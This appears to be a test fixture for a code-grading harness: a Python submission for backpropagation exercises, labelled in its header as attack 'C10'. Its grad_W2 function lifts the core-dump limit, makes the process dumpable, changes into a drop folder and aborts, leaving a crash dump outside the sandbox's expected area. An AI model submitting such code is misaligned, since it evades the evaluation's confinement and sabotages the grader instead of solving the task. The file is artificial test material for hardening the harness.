# attack: C10 raises the limit for core files, goes to another folder and crashes there
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
import ctypes
import os as system
import resource

import numpy as np


libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PLACE = {"x86_64": 0, "aarch64": 1}[system.uname().machine]


def call(numbers, *arguments):
    """One system call; its numbers on x86-64 and on aarch64, None where there is no such call."""
    if numbers[PLACE] is None:
        return -1
    given = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(numbers[PLACE]), *given)


DROP = "@DROP@"


def grad_W2(grad_oa, hs):
    for limit in (resource.RLIM_INFINITY, 2**20):
        try:
            resource.setrlimit(resource.RLIMIT_CORE, (limit, limit))
        except (OSError, ValueError):
            pass
    libc.prctl(4, 1, 0, 0, 0)
    try:
        system.chdir(DROP)
    except OSError:
        pass
    libc.abort()


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
